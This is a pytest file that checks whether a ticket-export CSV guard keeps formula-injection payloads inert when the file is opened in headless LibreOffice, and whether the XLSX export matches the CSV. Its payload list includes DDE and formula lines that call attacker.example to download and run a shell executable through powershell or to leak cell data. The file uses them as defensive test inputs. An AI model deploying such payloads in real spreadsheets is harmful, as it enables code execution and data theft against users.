"""Output safety in a real spreadsheet: a guarded tickets CSV opened in headless LibreOffice has no formula cell.

Run with `make test-spreadsheet` (installs LibreOffice when `soffice` is missing). Not part of `make test`:
this file is not named test_*.py, so it is only collected when named on the command line.

The tickets' titles are every payload the formula guard (SPEC §7, migration 0003) knows: = + - @ and their
full-width and small forms, a leading TAB/CR/LF, each Unicode blank before a sign, and DDE-style payloads;
one assignee's display name is a payload too. The CSV comes from the real worker and the real download
route. LibreOffice imports it with formula evaluation on and quoted fields not forced to text (the most
trusting settings), saves it as ODS and XLSX, re-saves each as the other, exports CSV from both and imports
that again: no cell of any of those files is a formula, and each title cell still shows its payload.

The workbook (SPEC §20): a `tickets_xlsx` export of the same payloads, opened by LibreOffice (saved as ODS), holds
the same values as the CSV export of the same filters: no formula cell, each title the ticket's own text (the
CSV's without its guard), numbers as numbers, dates as dates.
"""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
import uuid
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import psycopg
import pytest

from space.config import Settings
from space.db import Database
from space.exports.pipeline import run_export
from tests.exports.fixtures import add_tickets, create_export, download, parse_csv, runner, uid
from tests.helpers import Api

SIGNS = "=+-@" + "\uff1d\uff0b\uff0d\uff20" + "\ufe62\ufe63\ufe66\ufe6b"
"""= + - @, their full-width forms, their small forms."""
BLANKS = (
    [" ", "\t", "\n", "\x0b", "\x0c", "\r", "\x85", "\xa0", "\u1680", "\u180e"]
    + [chr(c) for c in range(0x2000, 0x200E)]
    + ["\u2028", "\u2029", "\u202f", "\u205f", "\u2060", "\u3000", "\ufeff"]
)
"""Every character the guard skips before a sign (Unicode White_Space and the invisible separators)."""
DDE = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click to see the ticket")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://attacker.example/")',
    '=IMPORTXML(CONCAT("http://attacker.example/?",A1),"//a")',
    '=1+1;=2+2,"=3+3"',
]


def payloads() -> list[str]:
    """Every payload of the guard's list, once."""
    out: list[str] = []
    for sign in SIGNS:
        out += [f"{sign}1+1", f"{sign}SUM(1;2)", f"{sign}cmd|' /C calc'!A0"]
    for blank in BLANKS:
        out += [f"{blank}=1+1", f"{blank}{blank}+SUM(1,2)", f"{blank}@A1"]
    out += ["\tplain", "\rplain", "\nplain", "\r\n=1+1", "\t\t-1"]
    out += DDE
    return list(dict.fromkeys(out))


# -- LibreOffice ------------------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
XLSX = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def csv_import(delimiter: str) -> str:
    """CSV import options: UTF-8, from line 1, quoted fields NOT forced to text, special numbers detected,
    formulas evaluated (token 13): the settings under which a formula would run if one got through."""
    return f"CSV:{ord(delimiter)},34,76,1,,0,false,true,false,false,false,-1,true"


def csv_export(delimiter: str) -> str:
    """CSV export: UTF-8, cell contents as shown, formulas not exported as formulas."""
    return f"csv:Text - txt - csv (StarCalc):{ord(delimiter)},34,76,1,,0,false,true,true,false,false,-1"


class Office:
    """Headless LibreOffice with its own profile (no lock on a user's profile, nothing shared)."""

    def __init__(self, work: Path) -> None:
        assert SOFFICE, "soffice not found: run `make test-spreadsheet`, which installs LibreOffice"
        self.work = work
        self.profile = (work / "profile").as_uri()

    def convert(self, source: Path, to: str, *, infilter: str | None = None) -> Path:
        """`soffice --convert-to`; returns the new file (same stem, in its own folder)."""
        out = self.work / f"{source.stem}-{uuid.uuid4().hex[:6]}"
        out.mkdir()
        args = [SOFFICE, f"-env:UserInstallation={self.profile}", "--headless", "--norestore", "--nolockcheck"]
        if infilter:
            args.append(f"--infilter={infilter}")
        args += ["--convert-to", to, "--outdir", str(out), str(source)]
        done = subprocess.run(args, capture_output=True, text=True, timeout=180, check=False)
        produced = [p for p in out.iterdir() if p.is_file()]
        assert done.returncode == 0 and len(produced) == 1, (args, done.stdout, done.stderr)
        return produced[0]


def ods_cells(path: Path) -> list[tuple[list[str], bool]]:
    """Rows of the first sheet of an ODS: (cell texts, whether any cell of the row is a formula)."""
    with zipfile.ZipFile(path) as z:
        root = ElementTree.fromstring(z.read("content.xml"))
    table = root.find(f".//{{{TABLE}}}table")
    assert table is not None
    rows = []
    for row in table.iter(f"{{{TABLE}}}table-row"):
        texts, formula = [], False
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            formula |= f"{{{TABLE}}}formula" in cell.attrib
            paragraphs = [_text(p) for p in cell.iter(f"{{{TEXT}}}p")]
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            texts += ["\n".join(paragraphs)] * min(repeat, 20)
        rows.append((texts, formula))
    return rows


def ods_typed(path: Path) -> list[list[tuple[str, str]]]:
    """Rows of the first sheet of an ODS, each cell as (its value type, its value): a float's value
    attribute, a date's shown text, else the cell's text (value type "" for an empty cell)."""
    with zipfile.ZipFile(path) as z:
        root = ElementTree.fromstring(z.read("content.xml"))
    table = root.find(f".//{{{TABLE}}}table")
    assert table is not None
    rows = []
    for row in table.iter(f"{{{TABLE}}}table-row"):
        cells: list[tuple[str, str]] = []
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            kind = cell.get(f"{{{OFFICE}}}value-type", "")
            if kind == "float":
                value = cell.get(f"{{{OFFICE}}}value", "")
            elif kind == "date":
                # What the cell shows (style 1: to the millisecond). The date-value attribute would not do:
                # LibreOffice writes it to the centisecond only (7.4: "...T01:12:52.14" for a cell that shows
                # 01:12:52.136 and holds the millisecond).
                value = "\n".join(_text(p) for p in cell.iter(f"{{{TEXT}}}p"))
            else:
                value = "\n".join(_text(p) for p in cell.iter(f"{{{TEXT}}}p"))
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells += [(kind, value)] * min(repeat, 20)
        if any(kind for kind, _ in cells):
            rows.append(cells)
    return rows


def _text(element: ElementTree.Element) -> str:
    """The text of an ODS paragraph: runs of spaces, tabs and line breaks are elements there."""
    out = [element.text or ""]
    for child in element:
        if child.tag == f"{{{TEXT}}}s":
            out.append(" " * int(child.get(f"{{{TEXT}}}c", "1")))
        elif child.tag == f"{{{TEXT}}}tab":
            out.append("\t")
        elif child.tag == f"{{{TEXT}}}line-break":
            out.append("\n")
        else:
            out.append(_text(child))
        out.append(child.tail or "")
    return "".join(out)


def _as_stored(value: str) -> str:
    """What a cell can hold of a string: LibreOffice turns CR into a line break and drops VT and FF
    (XML 1.0 has no such characters)."""
    return value.replace("\r\n", "\n").replace("\r", "\n").replace("\x0b", "").replace("\x0c", "")


def _visible(value: str) -> str:
    """The string without any character the guard counts as blank."""
    return "".join(c for c in value if c not in BLANKS)


def xlsx_formulas(path: Path) -> int:
    """Cells with a formula (<f>) in every sheet of an XLSX."""
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return sum(len(ElementTree.fromstring(z.read(n)).findall(f".//{{{XLSX}}}f")) for n in sheets)


def formulas_in(path: Path) -> int:
    """Formula cells in an ODS or XLSX file."""
    if path.suffix == ".xlsx":
        return xlsx_formulas(path)
    return sum(formula for _, formula in ods_cells(path))


# -- the test ---------------------------------------------------------------------------------------------


@pytest.fixture
def office(tmp_path: Path) -> Office:
    """LibreOffice in a scratch folder."""
    return Office(tmp_path)


@pytest.mark.timeout(900)
@pytest.mark.parametrize("delimiter", [",", ";"])
async def test_guarded_csv_has_no_formula_cell_in_libreoffice(
    api: Api, db: Database, settings: Settings, owner_url: str, office: Office, tmp_path: Path, delimiter: str
) -> None:
    org = await api.org("Spreadsheet")
    titles = payloads()
    numbers = await add_tickets(db, org.id, org.member, titles, assignee_id=org.memberships["admin"])
    # The assignee column is a text cell too: the admin's display name is a DDE payload.
    with psycopg.connect(owner_url, autocommit=True) as conn:
        conn.execute("UPDATE users SET name = %s WHERE id = %s", (DDE[0], org.admin.id))
    export = await create_export(api, org, org.member, {"kind": "tickets_csv", "delimiter": delimiter})
    assert await run_export(runner(settings, db), uid(export["id"]), uid(org.id)) == "completed"
    r = await download(api, org, org.member, export["id"])
    assert r.status_code == 200, r.text

    # What the guard wrote: every payload title (and the assignee) starts with the quote; the csv module
    # gives back exactly the guarded values.
    records = parse_csv(r.content, delimiter)[1:]
    assert [int(rec[0]) for rec in records] == numbers
    assert [rec[1] for rec in records] == ["'" + t for t in titles]
    assert {rec[4] for rec in records} == {"'" + DDE[0]}

    # Control: the same import turns unguarded payloads into formulas, so a zero below means something.
    control = tmp_path / "unguarded.csv"
    unguarded = ["=1+1", "+1+1", "-1+2", "=SUM(1,2)", "@SUM(1,2)", '=HYPERLINK("http://x.example")']
    rows = [f'"1"{delimiter}"{t.replace(chr(34), chr(34) * 2)}"' for t in unguarded]
    control.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(rows).encode())
    formulas_unguarded = formulas_in(office.convert(control, "ods", infilter=csv_import(delimiter)))
    assert formulas_unguarded >= 3, formulas_unguarded
    assert formulas_in(office.convert(control, "xlsx", infilter=csv_import(delimiter))) == formulas_unguarded

    source = tmp_path / f"tickets{'-semicolon' if delimiter == ';' else ''}.csv"
    source.write_bytes(r.content)
    steps: dict[str, Path] = {}
    steps["csv->ods"] = office.convert(source, "ods", infilter=csv_import(delimiter))
    steps["csv->xlsx"] = office.convert(source, "xlsx", infilter=csv_import(delimiter))
    steps["ods->xlsx (re-save)"] = office.convert(steps["csv->ods"], "xlsx")
    steps["xlsx->ods (re-save)"] = office.convert(steps["csv->xlsx"], "ods")
    for origin in ("csv->ods", "xlsx->ods (re-save)"):
        exported = office.convert(steps[origin], csv_export(delimiter))
        steps[f"{origin} ->csv ->ods (re-import)"] = office.convert(exported, "ods", infilter=csv_import(delimiter))
        steps[f"{origin} ->csv ->xlsx (re-import)"] = office.convert(exported, "xlsx", infilter=csv_import(delimiter))

    seen = {name: formulas_in(path) for name, path in steps.items()}
    print(
        f"delimiter {delimiter!r}: {len(titles)} payloads; control without the guard: {formulas_unguarded} of"
        f" {len(unguarded)} cells became formulas; formula cells per step with the guard: {seen}"
    )
    assert all(n == 0 for n in seen.values()), seen

    # And the cells show the payloads as text (the import kept every row and did not eat the guard).
    for name in ("csv->ods", "csv->ods ->csv ->ods (re-import)", "xlsx->ods (re-save) ->csv ->ods (re-import)"):
        rows = [texts for texts, _ in ods_cells(steps[name]) if texts and texts[0].strip()][1:]
        shown = [texts[1] for texts in rows]
        assert len(shown) == len(titles), (name, len(shown))
        for title, cell in zip(titles, shown, strict=True):
            # The guard's quote is still the first character, and the payload follows as plain text. The first
            # import keeps it exactly; LibreOffice's own CSV export and re-import may lose blanks (not signs).
            assert cell.startswith("'"), (name, title, cell)
            if name == "csv->ods":
                assert _as_stored(cell[1:]) == _as_stored(title), (name, title, cell)
            else:
                assert _visible(cell[1:]) == _visible(title), (name, title, cell)


def test_payload_list_matches_the_guard() -> None:
    """Every payload is one the guard's rule covers (so the CSV test above really checks the whole list)."""
    for p in payloads():
        stripped = p.lstrip("".join(BLANKS))
        assert p[0] in "\t\r\n" or stripped[:1] in SIGNS, repr(p)
    assert len(payloads()) >= 90


def _moment(value: str) -> dt.datetime:
    """An RFC 3339 timestamp (the CSV's) or a date cell's shown text (LibreOffice's, in UTC as written), naive UTC."""
    parsed = dt.datetime.fromisoformat(value.replace("Z", "+00:00"))
    return parsed.astimezone(dt.UTC).replace(tzinfo=None) if parsed.tzinfo else parsed


@pytest.mark.timeout(900)
async def test_the_workbook_opens_in_libreoffice_with_the_csvs_values(
    api: Api, db: Database, settings: Settings, owner_url: str, office: Office, tmp_path: Path
) -> None:
    org = await api.org("Workbook")
    titles = [*payloads(), "Line one\nline two", 'Quote "inside", comma', "four bytes \U0001f600", "plain"]
    guarded = set(payloads())
    numbers = await add_tickets(db, org.id, org.member, titles, assignee_id=org.memberships["admin"])
    await add_tickets(db, org.id, org.member, ["=closed, filtered out"], status="closed")
    with psycopg.connect(owner_url, autocommit=True) as conn:
        conn.execute("UPDATE users SET name = %s WHERE id = %s", (DDE[0], org.admin.id))
    results = {}
    for kind in ("tickets_csv", "tickets_xlsx"):
        export = await create_export(api, org, org.member, {"kind": kind, "filters": {"status": "open"}})
        assert await run_export(runner(settings, db), uid(export["id"]), uid(org.id)) == "completed"
        r = await download(api, org, org.member, export["id"])
        assert r.status_code == 200, r.text
        results[kind] = r.content
    records = parse_csv(results["tickets_csv"])
    book = tmp_path / "tickets.xlsx"
    book.write_bytes(results["tickets_xlsx"])

    opened = office.convert(book, "ods")
    assert formulas_in(opened) == 0
    assert formulas_in(office.convert(opened, "xlsx")) == 0
    rows = ods_typed(opened)
    assert [value for _, value in rows[0]][:7] == records[0]
    assert len(rows) == len(records) == len(titles) + 1
    for cells, record, number, title in zip(rows[1:], records[1:], numbers, titles, strict=True):
        assert cells[0] == ("float", str(number)) and record[0] == str(number)
        kind, shown = cells[1]
        assert kind == "string" and _as_stored(shown) == _as_stored(title), (title, shown)
        # The CSV's text: a payload behind the guard's quote, any other title as it is.
        assert record[1] == ("'" + title if title in guarded else title), (title, record[1])
        assert [value for _, value in cells[2:5]] == [record[2], record[3], DDE[0]] and record[4] == "'" + DDE[0]
        for (kind, value), text in zip(cells[5:7], record[5:7], strict=True):
            assert kind == "date", (kind, value)
            assert abs(_moment(value) - _moment(text)) <= dt.timedelta(milliseconds=1), (value, text)
